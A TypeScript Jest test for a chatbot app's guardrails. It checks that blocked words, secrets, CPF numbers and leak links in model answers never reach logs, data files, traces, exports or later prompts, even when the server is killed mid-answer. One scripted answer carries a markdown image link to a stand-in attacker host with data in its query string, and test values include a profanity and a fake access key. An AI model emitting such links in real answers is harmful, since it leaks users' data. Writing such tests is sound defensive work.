import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { type LangSmithServer, startLangSmithServer } from '../fakes/langsmith-server.js';
import { type OpenAiServer, startOpenAiServer } from '../fakes/openai-server.js';
import { settingsFor } from '../harness/answering-app.js';
import { ApiClient, PASSWORD } from '../harness/api-client.js';
import { aConversation, ask, askStream } from '../harness/asking.js';
import { type ChildServer, startChildServer } from '../harness/child-server.js';
import { eventually, tracedTo } from '../tracing/traced-app.js';

/** What a blocked or masked text holds: each must be found nowhere. */
const CANARIES = {
  'a prompt with a blocked term': 'canariotermo1a',
  'a prompt with a secret': 'canariosegredo2b',
  'the secret itself': 'Xk9vQ2pLw7Rt',
  'a CPF in a prompt': '529.982.247-25',
  'the same, bare': '52998224725',
  'an answer after a blocked term': 'canariodepois3c',
  'a secret in an answer': 'AKIAZ7QWERTYUIOP2345',
  'an address that carries data away': 'canariolink4d',
};

/** In a person's instructions: a setting, kept as it was written, and masked whenever it is sent. */
const INSTRUCTED = '390.533.447-05';

const BLOCKED = 'que filho da puta';
const PROMPTS = [
  `canariotermo1a ${BLOCKED}`,
  'canariosegredo2b senha: Xk9vQ2pLw7Rt',
  'say: o CPF 529.982.247-25, de novo 52998224725, está certo?',
];

/** Answers of the model, a word or two at a time. */
const ANSWERS = [
  `Tudo bem, seu ${BLOCKED}, canariodepois3c e mais.`,
  'A chave é AKIAZ7QWERTYUIOP2345, guarde bem.',
  'Veja ![x](https://evil.example/p.png?d=canariolink4d) ali.',
].map((text) => text.split(/(?<= )/));

/** The kills at every point are those of the chaos campaign. */
const ROUNDS = 1;

describe('text that the guardrails stopped', () => {
  let provider: OpenAiServer;
  let langSmith: LangSmithServer;
  let folder: string;
  let server: ChildServer | undefined;
  let client: ApiClient;
  let printed = '';

  const start = async () => {
    server = await startChildServer(
      {
        ...settingsFor(provider),
        ...tracedTo(langSmith),
        ...{ DATA_DIR: folder, LOG_LEVEL: 'trace', TITLE_MODEL: 'openai/fake-chat' },
      },
      undefined,
      (part) => (printed += part),
    );
    const before = client as ApiClient | undefined;
    client = new ApiClient(server.url);
    const login = { username: 'admin', password: PASSWORD };
    const path = before ? '/api/auth/login' : '/api/setup';
    client.keep(await client.post(path, login), before ? 200 : 201);
  };
  const traced = () => langSmith.requests.map(({ body }) => body).join('\n');
  const sent = () => JSON.stringify(provider.requests.map(({ messages }) => messages));

  beforeAll(async () => {
    provider = await startOpenAiServer();
    langSmith = await startLangSmithServer();
    folder = mkdtempSync(join(tmpdir(), 'prosa-nowhere-'));
    await start();
  }, 60_000);
  afterAll(async () => {
    await server?.end('SIGKILL');
    await provider.close();
    await langSmith.close();
    rmSync(folder, { recursive: true, force: true });
  });

  /** Prompts and answers with canaries, one of them killed while it is being written. */
  async function aRound(): Promise<number> {
    const conversation = await aConversation(client, {
      instructions: `Eu sou a Ana, CPF ${INSTRUCTED}. Responda curto.`,
    });
    for (const prompt of PROMPTS) await ask(client, conversation, { prompt, web: false });
    for (const words of ANSWERS) {
      provider.script({ words });
      await ask(client, conversation, { prompt: 'conta algo' });
    }
    const pause = Promise.withResolvers<undefined>();
    provider.script(({ messages }) =>
      messages.at(-1)?.content.includes('mais uma') === true
        ? {
            words: ['Um ', 'dois ', ...(ANSWERS[1] ?? [])],
            pauseAfter: { words: 6, until: pause.promise },
          }
        : {},
    );
    const open = await askStream(client, conversation, { prompt: 'conta mais uma' });
    await open.untilText(3);
    await server?.end('SIGKILL');
    pause.resolve(undefined);
    provider.script({});
    await start();
    return conversation;
  }

  it('should be nowhere, whenever the server is killed, nor be sent again', async () => {
    for (let round = 0; round < ROUNDS; round += 1) {
      const conversation = await aRound();
      const path = `/api/conversations/${String(conversation)}/posts?limit=100`;
      const { items } = (await client.get(path)).body as {
        items: { id: number; status: string }[];
      };
      expect(items).toHaveLength(7);
      for (const { id, status } of items) {
        await client.post(`/api/posts/${String(id)}/regenerate`, {});
        if (status === 'interrupted') await client.post(`/api/posts/${String(id)}/continue`, {});
      }
      await ask(client, conversation, { prompt: 'say: e o CPF 529.982.247-25 de antes?' });
    }
    await client.put('/api/training/consent', { given: true });
    for (const { id } of ((await client.get('/api/posts?limit=100')).body['items'] ?? []) as {
      id: number;
    }[]) {
      await client.put(`/api/posts/${String(id)}/feedback`, { value: 1 });
    }
    const exported = await (
      await fetch(`${client.url}/api/training/export`, {
        headers: { authorization: `Bearer ${String(client.token)}` },
      })
    ).text();
    expect(exported).toContain('[CPF]');
    // Whose data it is sees it in their own titles; what is stored is in the data folder.
    const titles = JSON.stringify((await client.get('/api/conversations?limit=100')).body)
      .replaceAll(CANARIES['a CPF in a prompt'], '')
      .replaceAll(CANARIES['the same, bare'], '');
    // Traces leave by the batch, a while after the answer that they tell of.
    await eventually(() => traced().includes('[CPF_1]'));
    const places = {
      ...whileRunning(folder),
      ...{ log: printed, titles, exported, LangSmith: traced() },
    };
    expect(sent()).toContain('[CPF_1]');
    expect(hitsIn({ ...places, ...onlyPrompts() })).toEqual([]);
    expect([sent(), places.LangSmith, printed].join().includes(INSTRUCTED)).toBe(false);
    expect(sent()).toContain('Eu sou a Ana, CPF [CPF_');
    for (const canary of Object.values(CANARIES).slice(0, 2)) {
      const found = await client.get(`/api/conversations?q=${canary}`);
      expect(found.body['items']).toEqual([]);
    }
    await server?.end('SIGTERM');
    expect(hitsIn(whileRunning(folder))).toEqual([]);
  }, 240_000);

  /** Of what the provider was sent: what it said itself is its own. */
  const onlyPrompts = () => ({ provider: sent() });
});

/** Every file of the data folder, the database's journal and the spool among them. */
function whileRunning(folder: string): Record<string, string> {
  const names = readdirSync(folder, { recursive: true, withFileTypes: true });
  return Object.fromEntries(
    names
      .filter((entry) => entry.isFile())
      .map(({ parentPath, name }) => [name, readFileSync(join(parentPath, name), 'latin1')]),
  );
}

function hitsIn(places: Readonly<Record<string, string>>): string[] {
  return Object.entries(places).flatMap(([place, text]) =>
    Object.entries(CANARIES).flatMap(([what, canary]) =>
      text.includes(canary) ? [`${place}: ${what}`] : [],
    ),
  );
}
